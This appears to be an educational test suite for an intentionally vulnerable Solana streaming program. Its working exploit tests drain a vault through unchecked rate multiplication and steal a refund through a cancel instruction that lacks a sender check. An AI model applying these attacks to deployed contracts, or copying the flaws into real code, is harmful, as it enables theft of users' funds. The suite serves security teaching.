@@ -0,0 +1,230 @@
+// Integration tests for STREAM-VULNERABLE program
+//
+// WARNING: These tests demonstrate intentional security vulnerabilities for educational purposes.
+// These exploits show what can happen when proper security checks are missing.
+//
+// HOW TO RUN THESE TESTS:
+// From the project root directory:
+//   cd programs/streaming/stream-vulnerable
+//   cargo test-sbf
+//
+// Or to run a specific test:
+//   cargo test-sbf -- test_name
+//
+// Or with output logging:
+//   cargo test-sbf -- --nocapture
+
+mod utils;
+
+use litesvm::types::TransactionResult;
+use solana_sdk::{pubkey::Pubkey, signature::{Keypair, Signer}};
+use soteria_test_kit::{run_exploit, ExploitInfo, ExploitScenario, Severity};
+use spl_associated_token_account::get_associated_token_address;
+use utils::*;
+
+// EXPLOIT: V001 - Unchecked rate * time multiplication
+// Demonstrates: A wrapped deposit lets one stream drain the pooled vault
+struct RateOverflow;
+
+struct RateOverflowState {
+    scenario: StreamScenario,
+    vault: Pubkey,
+    attacker: Keypair,
+    attacker_wallet: Keypair,
+    attacker_before: u64,
+}
+
+impl ExploitScenario for RateOverflow {
+    type State = RateOverflowState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V001",
+            title: "Vault Drain - Unchecked Rate Multiplication",
+            severity: Severity::Critical,
+            lesson: "Use checked_mul for rate * time and reject streams whose deposit overflows",
+        }
+    }
+
+    fn setup(&self) -> RateOverflowState {
+        println!("This test demonstrates how an overflowing rate * duration produces a tiny");
+        println!("deposit but a huge streamed amount, draining every stream's funds.");
+        println!();
+
+        let mut scenario = setup_stream_scenario();
+        create_default_stream(&mut scenario, 1);
+        let vault = derive_vault(&scenario.mint);
+        println!("[Setup] Victim streams {} tokens to their recipient", STREAM_DEPOSIT / ONE_TOKEN);
+        println!("[Setup] Pooled vault balance: {}", token_balance(&scenario.svm, &vault) / ONE_TOKEN);
+
+        let attacker = create_token_holder(&mut scenario, 10 * ONE_TOKEN);
+        let attacker_wallet = create_token_holder(&mut scenario, 0);
+        let attacker_before = token_balance(&scenario.svm, &get_associated_token_address(&attacker.pubkey(), &scenario.mint));
+
+        RateOverflowState { scenario, vault, attacker, attacker_wallet, attacker_before }
+    }
+
+    fn exploit(&self, state: &mut RateOverflowState) -> TransactionResult {
+        let RateOverflowState { scenario, attacker, attacker_wallet, .. } = state;
+
+        // 2 * (2^63 + 1 token) = 2^64 + 2 tokens, which wraps to 2 tokens
+        let rate = (1u64 << 63) + ONE_TOKEN;
+        let start_ts = current_timestamp(&scenario.svm) + 1;
+
+        println!();
+        println!("[EXPLOIT] Attacker opens a 2 second stream to their second wallet");
+        println!("[EXPLOIT] rate_per_second = 2^63 + 1 token, so the deposit wraps to 2 tokens");
+        println!("[EXPLOIT] In secure version, this should FAIL with Overflow");
+
+        let ix = build_create_stream_ix(
+            &attacker.pubkey(),
+            &attacker_wallet.pubkey(),
+            &scenario.mint,
+            1,
+            rate,
+            start_ts,
+            start_ts + 2,
+        );
+        send_ix(&mut scenario.svm, ix, attacker)
+    }
+
+    fn assert_impact(&self, state: &mut RateOverflowState) -> u64 {
+        let RateOverflowState { scenario, vault, attacker, attacker_wallet, attacker_before } = state;
+
+        let attacker_after = token_balance(&scenario.svm, &get_associated_token_address(&attacker.pubkey(), &scenario.mint));
+        let deposit = *attacker_before - attacker_after;
+        assert_eq!(deposit, 2 * ONE_TOKEN);
+        println!("[RESULT] Stream opened for a deposit of just {} tokens", deposit / ONE_TOKEN);
+
+        // One second in, streamed_amount = rate, far more than the vault holds
+        advance_time(&mut scenario.svm, 2);
+        let (attacker_stream, _) = derive_stream_pda(&attacker.pubkey(), &attacker_wallet.pubkey(), 1);
+        let vault_balance = token_balance(&scenario.svm, vault);
+
+        println!("[EXPLOIT] One second later, second wallet withdraws the whole vault ({} tokens)", vault_balance / ONE_TOKEN);
+        let ix = build_withdraw_ix(&attacker_wallet.pubkey(), &attacker_stream, &scenario.mint, vault_balance);
+        let result = send_ix(&mut scenario.svm, ix, attacker_wallet);
+
+        println!();
+        println!("[RESULT] Vault drain: {:?}", if result.is_ok() { "SUCCESS" } else { "FAILED" });
+        assert!(result.is_ok(), "Withdraw should succeed: {:?}", result.err());
+
+        let stolen = token_balance(&scenario.svm, &get_associated_token_address(&attacker_wallet.pubkey(), &scenario.mint));
+        assert_eq!(stolen, STREAM_DEPOSIT + deposit);
+        assert_eq!(token_balance(&scenario.svm, vault), 0);
+        println!("[IMPACT] Attacker paid {} and withdrew {} tokens", deposit / ONE_TOKEN, stolen / ONE_TOKEN);
+        println!("[IMPACT] Victim's stream is still recorded but the vault is empty");
+
+        STREAM_DEPOSIT
+    }
+}
+
+#[test]
+fn test_exploit_rate_overflow() {
+    run_exploit(&RateOverflow);
+}
+
+// EXPLOIT: V002 - Cancel without sender verification
+// Demonstrates: An outsider cancels a stream and takes the unstreamed refund
+struct CancelWithoutSenderCheck;
+
+const CANCEL_ELAPSED: i64 = STREAM_DURATION * 2 / 5;
+const CANCEL_STREAMED: u64 = RATE_PER_SECOND * CANCEL_ELAPSED as u64;
+
+struct CancelState {
+    scenario: StreamScenario,
+    stream: Pubkey,
+    attacker: Keypair,
+}
+
+impl ExploitScenario for CancelWithoutSenderCheck {
+    type State = CancelState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V002",
+            title: "Refund Theft - Missing Sender Check on Cancel",
+            severity: Severity::Critical,
+            lesson: "Cancel must require the sender's signature and refund only the sender",
+        }
+    }
+
+    fn setup(&self) -> CancelState {
+        println!("This test demonstrates how a cancel instruction that accepts any signer and");
+        println!("any refund account lets an outsider steal everything not yet streamed.");
+        println!();
+
+        let mut scenario = setup_stream_scenario();
+        let (stream, start_ts) = create_default_stream(&mut scenario, 1);
+        let attacker = create_token_holder(&mut scenario, 0);
+        println!("[Setup] Sender streams {} tokens over {}s", STREAM_DEPOSIT / ONE_TOKEN, STREAM_DURATION);
+
+        advance_time(&mut scenario.svm, start_ts + CANCEL_ELAPSED - current_timestamp(&scenario.svm));
+        println!("[Setup] {}s in, {} tokens streamed", CANCEL_ELAPSED, CANCEL_STREAMED / ONE_TOKEN);
+
+        CancelState { scenario, stream, attacker }
+    }
+
+    fn exploit(&self, state: &mut CancelState) -> TransactionResult {
+        let CancelState { scenario, stream, attacker } = state;
+
+        println!();
+        println!("[EXPLOIT] Attacker cancels the stream with their own account as the refund target");
+        println!("[EXPLOIT] In secure version, this should FAIL with Unauthorized");
+
+        // EXPLOIT: Attacker signs in place of the sender
+        let ix = build_cancel_stream_ix(&attacker.pubkey(), stream, &scenario.mint, &scenario.recipient.pubkey());
+        send_ix(&mut scenario.svm, ix, attacker)
+    }
+
+    fn assert_impact(&self, state: &mut CancelState) -> u64 {
+        let CancelState { scenario, stream, attacker } = state;
+        let streamed = CANCEL_STREAMED;
+
+        println!();
+        println!("[RESULT] Cancel by outsider: SUCCESS");
+
+        let stolen = token_balance(&scenario.svm, &get_associated_token_address(&attacker.pubkey(), &scenario.mint));
+        assert_eq!(stolen, STREAM_DEPOSIT - streamed);
+        assert_eq!(token_balance(&scenario.svm, &scenario.recipient_ata), streamed);
+        assert_eq!(token_balance(&scenario.svm, &scenario.sender_ata), SENDER_BALANCE - STREAM_DEPOSIT);
+        assert_eq!(get_stream_amounts(&scenario.svm, stream), (streamed, streamed));
+        println!("[IMPACT] Attacker received the {} token refund", stolen / ONE_TOKEN);
+        println!("[IMPACT] Recipient was paid {} so nothing looks wrong to them", streamed / ONE_TOKEN);
+        println!("[IMPACT] Sender lost {} tokens and their stream is gone", (STREAM_DEPOSIT - streamed) / ONE_TOKEN);
+
+        stolen
+    }
+}
+
+#[test]
+fn test_exploit_cancel_without_sender_check() {
+    run_exploit(&CancelWithoutSenderCheck);
+}
+
+#[test]
+fn test_all_basic_operations_work() {
+    // Sanity check: the happy path still works in the vulnerable version
+    println!("\n[TEST START] test_all_basic_operations_work - Normal stream lifecycle");
+
+    let mut scenario = setup_stream_scenario();
+    let (stream, start_ts) = create_default_stream(&mut scenario, 1);
+    assert_eq!(token_balance(&scenario.svm, &derive_vault(&scenario.mint)), STREAM_DEPOSIT);
+    println!("[Success] Stream created");
+
+    let elapsed = STREAM_DURATION / 4;
+    advance_time(&mut scenario.svm, start_ts + elapsed - current_timestamp(&scenario.svm));
+    let streamed = RATE_PER_SECOND * elapsed as u64;
+
+    let ix = build_withdraw_ix(&scenario.recipient.pubkey(), &stream, &scenario.mint, streamed);
+    send_ix(&mut scenario.svm, ix, &scenario.recipient).expect("Withdraw should succeed");
+    assert_eq!(token_balance(&scenario.svm, &scenario.recipient_ata), streamed);
+    println!("[Success] Recipient withdrew the streamed amount");
+
+    let ix = build_cancel_stream_ix(&scenario.sender.pubkey(), &stream, &scenario.mint, &scenario.recipient.pubkey());
+    send_ix(&mut scenario.svm, ix, &scenario.sender).expect("Cancel should succeed");
+    assert_eq!(token_balance(&scenario.svm, &scenario.sender_ata), SENDER_BALANCE - streamed);
+    println!("[Success] Sender cancelled and was refunded the unstreamed part");
+
+    println!("[TEST END] test_all_basic_operations_work");
+}